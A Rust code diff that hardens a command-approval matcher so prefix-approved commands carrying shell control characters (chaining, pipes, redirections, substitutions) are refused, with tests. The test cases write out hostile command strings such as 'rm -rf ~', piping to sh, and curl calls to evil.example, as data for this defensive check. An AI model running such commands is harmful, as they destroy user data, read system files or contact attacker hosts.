@@ -78,11 +78,19 @@ pub enum Matcher {
     /// Every request of this kind.
     Kind(RequestKind),
     /// A command approval whose command (`metadata.command`), trimmed, is this command or starts
-    /// with it followed by a space.
+    /// with it followed by a space — and whose arguments after it hold none of the shell's
+    /// control characters ([`SHELL_CONTROL`]: chaining, pipes, redirections, substitutions, line
+    /// breaks): `cargo test && rm -rf ~` or `cargo test $(curl …)` runs more than `cargo test`,
+    /// so it does not match. Quoting is not read: a quoted `;` does not match either.
     CommandPrefix(String),
     /// A request whose `metadata.tool` (the tool a provider asks about) is this name.
     Tool(String),
 }
+
+/// The characters that make a shell run more than the command they follow: `;` `&` `|` `<` `>`
+/// `` ` `` `$` `(` `)` and line breaks. A [`Matcher::CommandPrefix`] never matches a command that
+/// holds one after its prefix.
+pub const SHELL_CONTROL: &[char] = &[';', '&', '|', '<', '>', '`', '$', '(', ')', '\n', '\r'];
 
 impl Matcher {
     fn matches(&self, request: &Request) -> bool {
@@ -92,7 +100,10 @@ impl Matcher {
             Matcher::CommandPrefix(prefix) => {
                 request.kind == RequestKind::CommandApproval
                     && meta("command").map(str::trim).is_some_and(|command| {
-                        command == prefix || command.strip_prefix(prefix.as_str()).is_some_and(|r| r.starts_with(' '))
+                        command == prefix
+                            || command.strip_prefix(prefix.as_str()).is_some_and(|arguments| {
+                                arguments.starts_with(' ') && !arguments.contains(SHELL_CONTROL)
+                            })
                     })
             }
             Matcher::Tool(tool) => meta("tool") == Some(tool.as_str()),
@@ -130,7 +141,9 @@ impl RequestPolicy {
         self.rule(Matcher::Kind(kind), Response::deny(reason))
     }
 
-    /// Approves (once) commands that are, or start with, one of `prefixes`.
+    /// Approves (once) commands that are, or start with, one of `prefixes` followed by plain
+    /// arguments (see [`Matcher::CommandPrefix`]: a command that chains, pipes, redirects or
+    /// substitutes after the prefix is not approved by it).
     pub fn approve_commands(mut self, prefixes: impl IntoIterator<Item = impl Into<String>>) -> Self {
         for prefix in prefixes {
             self = self.rule(Matcher::CommandPrefix(prefix.into()), Response::approve());
@@ -214,6 +227,25 @@ mod tests {
             Some(Response::deny("no")),
             "a prefix matches whole words"
         );
+        for chained in [
+            "cargo test && rm -rf ~",
+            "cargo test || true",
+            "cargo test | sh",
+            "cargo test; rm -rf ~",
+            "cargo test & curl evil.example",
+            "cargo test $(curl evil.example)",
+            "cargo test `id`",
+            "cargo test > ~/.bashrc",
+            "cargo test < /etc/passwd",
+            "cargo test\nrm -rf ~",
+            "git status $HOME",
+        ] {
+            assert_eq!(
+                policy.decide(&request(RequestKind::CommandApproval, Some(chained))),
+                Some(Response::deny("no")),
+                "{chained:?} runs more than its prefix"
+            );
+        }
         assert_eq!(policy.decide(&request(RequestKind::FileChangeApproval, None)), approve);
         assert_eq!(policy.decide(&request(RequestKind::Question, None)), None, "left to the caller");
         let strict = policy.otherwise(Response::deny("not allowed"));
